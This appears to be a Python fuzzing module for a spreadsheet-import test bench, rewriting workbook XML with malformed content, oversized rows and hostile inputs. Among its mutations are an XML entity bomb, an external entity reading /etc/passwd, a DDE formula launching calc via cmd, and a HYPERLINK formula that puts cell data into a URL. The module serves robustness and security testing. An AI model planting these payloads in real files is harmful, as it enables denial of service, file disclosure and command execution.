"""One-member mutations of the packet campaign: one XML part of the packet rewritten with a change.

Damaged XML, a DTD with entities, a huge attribute, a far-out cell, a dimension that lies,
shared strings out of range, a formula typed into an empty cell (a DDE call, a HYPERLINK),
inline strings, error cells, and the row flood (many id-only rows, written as XML so a flood of
hundreds of thousands of rows costs a fraction of a second to make).
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass

from bench.campaign_zip import Members

__all__ = ["Change", "sheet_members", "mutate_xml", "row_flood", "column_letter", "headers", "last_row",
           "cell_xml", "set_cell", "value_of"]

_CELL = re.compile(rb'<c r="([A-Z]+)(\d+)"[^>]*?(?:/>|>.*?</c>)', re.S)
_ROW = re.compile(rb'<row r="(\d+)"[^>]*>(.*?)</row>', re.S)

DDE = "cmd|' /C calc'!A0"
HYPERLINK = 'HYPERLINK("http://example.invalid/?q="&A2,"点击查看")'


@dataclass(frozen=True)
class Change:
    """What a mutation did, and whether a clerk reading the workbook would see it."""

    label: str
    visible: bool = False
    """The workbook now shows something the signed content does not (a formula, a far cell, a
    changed cover...): a merge must say so, not pass silently."""


def column_letter(n: int) -> str:
    """1 → A, 27 → AA."""
    out = ""
    while n:
        n, r = divmod(n - 1, 26)
        out = chr(65 + r) + out
    return out


def _column_number(letters: bytes) -> int:
    n = 0
    for ch in letters:
        n = n * 26 + ch - 64
    return n


def sheet_members(members: Members) -> dict[str, str]:
    """Sheet name → member path, from the workbook and its relationships."""
    parts = dict(members)
    workbook = parts.get("xl/workbook.xml", b"").decode("utf-8", "replace")
    rels = parts.get("xl/_rels/workbook.xml.rels", b"").decode("utf-8", "replace")
    targets = {m.group(1): m.group(2) for m in re.finditer(r'Id="(rId\d+)"[^>]*?Target="([^"]+)"', rels)}
    targets.update({m.group(2): m.group(1) for m in re.finditer(r'Target="([^"]+)"[^>]*?Id="(rId\d+)"', rels)})
    out = {}
    for m in re.finditer(r'<sheet [^>]*?name="([^"]+)"[^>]*?r:id="(rId\d+)"', workbook):
        target = targets.get(m.group(2), "")
        out[m.group(1)] = target.lstrip("/") if target.startswith("/") else f"xl/{target}"
    return out


def _replace(members: Members, name: str, data: bytes) -> Members:
    return [(n, data if n == name else d) for n, d in members]


def _insert_cell(xml: bytes, row: int, column: int, cell: bytes) -> bytes:
    """``xml`` with ``cell`` put at (row, column): into its row in column order, or a new row."""
    for m in _ROW.finditer(xml):
        if int(m.group(1)) != row:
            continue
        cells = list(_CELL.finditer(m.group(2)))
        at = next((c.start() for c in cells if _column_number(c.group(1)) >= column), len(m.group(2)))
        same = next((c for c in cells if _column_number(c.group(1)) == column), None)
        body = m.group(2)
        body = body[: same.start()] + cell + body[same.end():] if same else body[:at] + cell + body[at:]
        return xml[: m.start(2)] + body + xml[m.end(2):]
    rows = [(int(m.group(1)), m.start()) for m in _ROW.finditer(xml)]
    after = next((start for r, start in rows if r > row), None)
    new = b'<row r="%d">%s</row>' % (row, cell)
    if after is None:
        after = xml.find(b"</sheetData>")
        if after < 0:  # <sheetData/>
            return xml.replace(b"<sheetData/>", b"<sheetData>" + new + b"</sheetData>")
    return xml[:after] + new + xml[after:]


def _empty_spot(xml: bytes, rng: random.Random) -> tuple[int, int]:
    """A (row, column) inside the table whose cell is empty (or a cell beside the last row)."""
    rows = list(_ROW.finditer(xml))
    header = [c for c in _CELL.finditer(rows[0].group(2))] if rows else []
    width = max((_column_number(c.group(1)) for c in header), default=3)
    for _ in range(30):
        if len(rows) < 2:
            break
        m = rng.choice(rows[1:])
        used = {_column_number(c.group(1)) for c in _CELL.finditer(m.group(2))}
        free = [n for n in range(2, width + 1) if n not in used]
        if free:
            return int(m.group(1)), rng.choice(free)
    last = int(rows[-1].group(1)) if rows else 1
    return last, width + 1


def _inline(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def headers(xml: bytes) -> list[str]:
    """The header texts of row 1 (without the required mark ``*``), by column from A."""
    first = next(_ROW.finditer(xml), None)
    if first is None:
        return []
    out: dict[int, str] = {}
    for c in _CELL.finditer(first.group(2)):
        text = re.search(rb"<t[^>]*>(.*?)</t>", c.group(0), re.S)
        out[_column_number(c.group(1))] = (text.group(1).decode() if text else "").rstrip("*")
    return [out.get(n, "") for n in range(1, max(out, default=0) + 1)]


def last_row(xml: bytes) -> int:
    """The number of the sheet's last row (1 when only the headers are there)."""
    return max((int(m.group(1)) for m in _ROW.finditer(xml)), default=1)


def value_of(xml: bytes, row: int, column: int) -> str | None:
    """The text of a cell's value (``<t>`` or ``<v>``), None when the cell is empty."""
    for m in _ROW.finditer(xml):
        if int(m.group(1)) == row:
            for c in _CELL.finditer(m.group(2)):
                if _column_number(c.group(1)) == column:
                    text = re.search(rb"<(?:t|v)[^>]*>(.*?)</(?:t|v)>", c.group(0), re.S)
                    return text.group(1).decode("utf-8", "replace") if text else None
    return None


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def cell_xml(ref: str, value: object) -> bytes:
    """A cell as a spreadsheet writer would write ``value`` (numbers as numbers, text inline)."""
    if value is None:
        return f'<c r="{ref}"/>'.encode()
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'.encode()
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value!r}</v></c>'.encode()
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_escape(str(value))}</t></is></c>'.encode()


def set_cell(xml: bytes, row: int, column: int, value: object) -> bytes:
    """``xml`` with the cell at (row, column) holding ``value``."""
    return _insert_cell(xml, row, column, cell_xml(f"{column_letter(column)}{row}", value))


def row_flood(xml: bytes, rows: int, id_prefix: str = "X-130125-") -> bytes:
    """``xml`` (a register sheet) with ``rows`` extra rows holding only an id."""
    last = max((int(m.group(1)) for m in _ROW.finditer(xml)), default=1)
    flood = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>%s%07d</t></is></c></row>'
                     % (last + i, last + i, id_prefix.encode(), i) for i in range(1, rows + 1))
    end = xml.rfind(b"</sheetData>")
    return xml[:end] + flood + xml[end:]


def mutate_xml(members: Members, rng: random.Random) -> tuple[Members, Change]:
    """One XML part of the packet rewritten with one change."""
    sheets = sheet_members(members)
    parts = dict(members)
    registers = [n for n in sheets if not n.startswith("_") and n != "封面"] or list(sheets)
    op = rng.choice(["damage", "damage", "dtd", "entity-bomb", "external-entity", "huge-attribute",
                     "far-cell", "far-cell", "dimension", "shared-string", "formula", "formula",
                     "hyperlink", "inline-number", "error-cell", "encoding", "workbook", "content-types"])
    pick = rng.random()
    sheet = rng.choice(registers) if pick < 0.7 else rng.choice(list(sheets))
    member = sheets[sheet]
    xml = parts[member]
    label = f"{op} {sheet}"
    visible = False
    if op == "damage":
        how = rng.choice(["cut", "junk", "unclosed", "bad-utf8", "nul"])
        at = rng.randrange(len(xml))
        label += f" {how} @{at}"
        xml = {"cut": xml[:at], "junk": xml[:at] + b"<<&>>" + xml[at:],
               "unclosed": xml.replace(b"</sheetData>", b"<row r=\"999\"><c r=\"A999\"></sheetData>", 1),
               "bad-utf8": xml[:at] + b"\xff\xfe\xc3" + xml[at:], "nul": xml[:at] + b"\x00" + xml[at:]}[how]
    elif op in ("dtd", "entity-bomb", "external-entity"):
        decl = {"dtd": b'<!DOCTYPE worksheet [<!ENTITY e "dtd">]>',
                "entity-bomb": b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">' + b"".join(
                    b'<!ENTITY %s "%s">' % (chr(98 + i).encode(), (b"&" + chr(97 + i).encode() + b";") * 10)
                    for i in range(8)) + b"]>",
                "external-entity": b'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'}[op]
        use = {"dtd": b"&e;", "entity-bomb": b"&i;", "external-entity": b"&e;"}[op]
        head = xml.find(b"?>") + 2
        xml = xml[:head] + decl + xml[head:]
        row, col = _empty_spot(xml, rng)
        cell = b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (column_letter(col).encode(), row, use)
        xml = _insert_cell(xml, row, col, cell)
    elif op == "huge-attribute":
        size = rng.choice([100_000, 5_000_000, 40_000_000])
        label += f" {size} chars"
        xml = xml.replace(b"<sheetData>", b'<sheetData x="' + b"A" * size + b'">', 1)
    elif op == "far-cell":
        ref = rng.choice(["XFD1048576", "AZ1048576", "A1048576", "XFD1", "A200000", "ZZ5000"])
        label += f" {ref}"
        visible = True
        spot = re.fullmatch(r"([A-Z]+)(\d+)", ref)
        assert spot
        xml = _insert_cell(xml, int(spot.group(2)), _column_number(spot.group(1).encode()), _inline(ref, "x"))
    elif op == "dimension":
        extent = rng.choice([b"A1:XFD1048576", b"A1:A1", b"A1", b"Z9:A1", b"A1:AZ1048576", b""])
        label += f" {extent.decode()!r}"
        tag = b'<dimension ref="' + extent + b'"/>'
        xml = re.sub(rb'<dimension ref="[^"]*"/>', tag, xml, count=1) if b"<dimension" in xml else \
            xml.replace(b"<sheetData>", tag + b"<sheetData>", 1)
    elif op == "shared-string":
        index = rng.choice([0, 5, 99_999, 2**31, -1])
        row, col = _empty_spot(xml, rng)
        ref = f"{column_letter(col)}{row}"
        label += f" {ref} index {index}"
        xml = _insert_cell(xml, row, col, f'<c r="{ref}" t="s"><v>{index}</v></c>'.encode())
        if rng.random() < 0.5 and "xl/sharedStrings.xml" not in parts:
            members = [*members, ("xl/sharedStrings.xml", b'<?xml version="1.0" encoding="UTF-8"?>'
                                  b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
                                  b' count="1" uniqueCount="1"><si><t>only</t></si></sst>')]
            label += " (+sharedStrings.xml)"
    elif op in ("formula", "hyperlink"):
        row, col = _empty_spot(xml, rng)
        ref = f"{column_letter(col)}{row}"
        formula = HYPERLINK if op == "hyperlink" else rng.choice([DDE, "1+1", "SUM(A1:A9)", "NOW()"])
        cached = rng.choice([b"", b"<v>0</v>", b'<v></v>'])
        kind = rng.choice([b"", b' t="str"'])
        formula_xml = formula.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        cell = b'<c r="%s"%s><f>%s</f>%s</c>' % (ref.encode(), kind, formula_xml.encode(), cached)
        xml = _insert_cell(xml, row, col, cell)
        label += f" {ref} ={formula}"
        visible = True
    elif op == "inline-number":
        cells = [m for m in _CELL.finditer(xml) if b"<v>" in m.group(0)]
        if cells:
            m = rng.choice(cells)
            value = re.search(rb"<v>(.*?)</v>", m.group(0))
            assert value
            ref = (m.group(1) + m.group(2)).decode()
            xml = xml[: m.start()] + _inline(ref, value.group(1).decode()) + xml[m.end():]
            label += f" {ref}"
    elif op == "error-cell":
        cells = list(_CELL.finditer(xml))
        error = rng.choice(["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?"])
        if rng.random() < 0.5 and len(cells) > 1:
            m = rng.choice(cells[1:])
            ref = (m.group(1) + m.group(2)).decode()
            xml = xml[: m.start()] + f'<c r="{ref}" t="e"><v>{error}</v></c>'.encode() + xml[m.end():]
        else:
            row, col = _empty_spot(xml, rng)
            ref = f"{column_letter(col)}{row}"
            xml = _insert_cell(xml, row, col, f'<c r="{ref}" t="e"><v>{error}</v></c>'.encode())
        label += f" {ref} {error}"
    elif op == "encoding":
        how = rng.choice(["utf-16-lie", "latin1", "bom"])
        label += f" {how}"
        xml = {"utf-16-lie": xml.replace(b'encoding="UTF-8"', b'encoding="UTF-16"', 1),
               "latin1": xml.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"', 1),
               "bom": b"\xef\xbb\xbf" + xml}[how]
    elif op == "workbook":
        member = "xl/workbook.xml"
        xml = parts[member]
        how = rng.choice(["cut", "bad-rid", "no-sheets", "dup-name"])
        label = f"workbook {how}"
        if how == "cut":
            xml = xml[: rng.randrange(len(xml))]
        elif how == "bad-rid":
            xml = xml.replace(b'r:id="rId2"', b'r:id="rId99"', 1)
        elif how == "no-sheets":
            xml = re.sub(rb"<sheets>.*?</sheets>", b"<sheets/>", xml, flags=re.S)
        else:
            names = re.findall(rb'<sheet name="([^"]+)"', xml)
            if len(names) > 2:
                xml = xml.replace(b'name="' + names[2] + b'"', b'name="' + names[1] + b'"', 1)
    else:  # content types
        member = "[Content_Types].xml"
        xml = parts[member]
        how = rng.choice(["cut", "drop-sheet", "macro"])
        label = f"content-types {how}"
        if how == "cut":
            xml = xml[: rng.randrange(len(xml))]
        elif how == "drop-sheet":
            xml = re.sub(rb'<Override PartName="/xl/worksheets/sheet2.xml"[^>]*/>', b"", xml, count=1)
        else:
            xml = xml.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml", 1)
    return _replace(members, member, xml), Change(label, visible)
